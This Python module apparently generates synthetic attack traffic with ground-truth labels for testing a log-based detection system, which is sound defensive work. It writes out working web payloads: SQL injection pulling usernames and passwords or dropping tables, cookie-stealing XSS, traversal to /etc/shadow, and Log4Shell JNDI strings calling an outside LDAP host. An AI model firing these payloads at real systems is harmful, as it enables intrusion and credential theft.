"""Attack campaigns injected into the scenario, each with its ground truth.

A campaign is a function ``(rng, start) -> list[Request]``; every request it returns is an
attack line. ``family`` names what a detection should call it. Add a campaign by writing the
function and listing it in :data:`CAMPAIGNS`.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta

from marketguard.app.scenario.traffic import BROWSER_UAS, Request

__all__ = ["Campaign", "CAMPAIGNS"]


@dataclass(frozen=True)
class Campaign:
    """One kind of attack: its name, family and request generator."""

    name: str
    family: str
    make: Callable[[random.Random, datetime], list[Request]]
    per_line: bool = True  # False: detected as a whole by a correlation rule


def _attacker(rng: random.Random) -> str:
    return f"185.{rng.randrange(100, 255)}.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}"


def _spread(rng: random.Random, start: datetime, ip: str, items: list[tuple[str, str, int]], ua: str, step: float = 2.0) -> list[Request]:
    out, ts = [], start
    for method, target, status in items:
        ts += timedelta(seconds=rng.uniform(0.2, step))
        out.append(Request(ts, ip, method, target, status, rng.randrange(100, 3000), "-", ua))
    return out


def sql_injection(rng: random.Random, start: datetime) -> list[Request]:
    payloads = [
        "/api/v1/products?id=1%27%20OR%20%271%27=%271",
        "/api/v1/products?id=1+UNION+SELECT+username,password+FROM+users--",
        "/api/v1/search?q=shoes%27;DROP%20TABLE%20orders;--",
        "/api/v1/products?id=1%20AND%20SLEEP(5)",
        "/api/v1/search?q=1%27%20AND%201=CONVERT(int,@@version)--",
        "/api/v1/orders?seller=7%20OR%201=1",
        "/api/v1/products?id=-1%20union%20all%20select%20null,concat(0x3a,user())--",
        "/api/v1/search?q=x%27%20or%20benchmark(10000000,md5(1))%23",
    ]
    return _spread(rng, start, _attacker(rng), [("GET", p, 500) for p in payloads], rng.choice(BROWSER_UAS))


def cross_site_scripting(rng: random.Random, start: datetime) -> list[Request]:
    payloads = [
        "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/api/v1/search?q=<script>alert(1)</script>",
        "/api/v1/reviews?text=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/api/v1/search?q=javascript:alert(1)",
        "/api/v1/search?q=%3Csvg/onload=alert(1)%3E",
    ]
    return _spread(rng, start, _attacker(rng), [("GET", p, 200) for p in payloads], rng.choice(BROWSER_UAS))


def path_traversal(rng: random.Random, start: datetime) -> list[Request]:
    payloads = [
        "/static/../../../../etc/passwd",
        "/api/v1/files?name=../../../../etc/shadow",
        "/api/v1/files?name=..%2f..%2f..%2fetc%2fpasswd",
        "/api/v1/export?path=%2e%2e%2f%2e%2e%2fwindows/win.ini",
        "/images/..%252f..%252f..%252fetc%252fpasswd",
    ]
    return _spread(rng, start, _attacker(rng), [("GET", p, 400) for p in payloads], rng.choice(BROWSER_UAS))


def log4shell(rng: random.Random, start: datetime) -> list[Request]:
    ip = _attacker(rng)
    reqs = _spread(rng, start, ip, [("GET", "/api/v1/search?q=${jndi:ldap://45.83.1.1:1389/a}", 200),
                                    ("GET", "/?x=${${lower:j}ndi:${lower:r}mi://evil.example/a}", 200)],
                   rng.choice(BROWSER_UAS))
    reqs += _spread(rng, reqs[-1].ts, ip, [("GET", "/", 200)], "${jndi:ldap://45.83.1.1:1389/Basic/Command/Base64/aWQ=}")
    return reqs


def scanner(rng: random.Random, start: datetime) -> list[Request]:
    ip = _attacker(rng)
    out: list[Request] = []
    for ua in ("sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"):
        out += _spread(rng, out[-1].ts if out else start, ip, [("GET", "/api/v1/products?id=1", 200), ("GET", "/", 200)], ua)
    return out


def admin_probing(rng: random.Random, start: datetime) -> list[Request]:
    paths = ["/.env", "/.git/config", "/admin/", "/actuator/env", "/debug/pprof/", "/phpmyadmin/index.php", "/wp-admin/setup-config.php", "/server-status", "/api/v1/internal/debug/vars"]
    return _spread(rng, start, _attacker(rng), [("GET", p, 404) for p in paths], rng.choice(BROWSER_UAS))


def api_key_leak(rng: random.Random, start: datetime) -> list[Request]:
    ip = _attacker(rng)
    items = [
        ("GET", f"/api/v1/sellers/{rng.randrange(1, 3000)}/orders?api_key=sk_live_{rng.getrandbits(96):024x}", 200),
        ("GET", f"/api/v1/payouts?access_token=eyJhbGciOiJIUzI1NiJ9.{rng.getrandbits(64):016x}", 200),
        ("GET", f"/api/v1/sellers/{rng.randrange(1, 3000)}/inventory?apikey={rng.getrandbits(128):032x}", 200),
    ]
    return _spread(rng, start, ip, items, "python-requests/2.32.3")


def credential_stuffing(rng: random.Random, start: datetime) -> list[Request]:
    items = [("POST", "/api/v1/login", 401) for _ in range(60)]
    return _spread(rng, start, _attacker(rng), items, rng.choice(BROWSER_UAS), step=1.5)


def order_enumeration(rng: random.Random, start: datetime) -> list[Request]:
    first = rng.randrange(10**7, 9 * 10**7)
    items = [("GET", f"/api/v1/orders/{first + i}", rng.choice((200, 403, 404))) for i in range(80)]
    return _spread(rng, start, _attacker(rng), items, "python-requests/2.32.3", step=1.0)


CAMPAIGNS: tuple[Campaign, ...] = (
    Campaign("sql-injection", "security", sql_injection),
    Campaign("cross-site-scripting", "security", cross_site_scripting),
    Campaign("path-traversal", "security", path_traversal),
    Campaign("log4shell", "security", log4shell),
    Campaign("scanner-user-agent", "security", scanner),
    Campaign("admin-endpoint-probing", "security", admin_probing),
    Campaign("api-key-in-url", "security", api_key_leak),
    Campaign("credential-stuffing", "security", credential_stuffing, per_line=False),
    Campaign("order-enumeration", "security", order_enumeration, per_line=False),
)
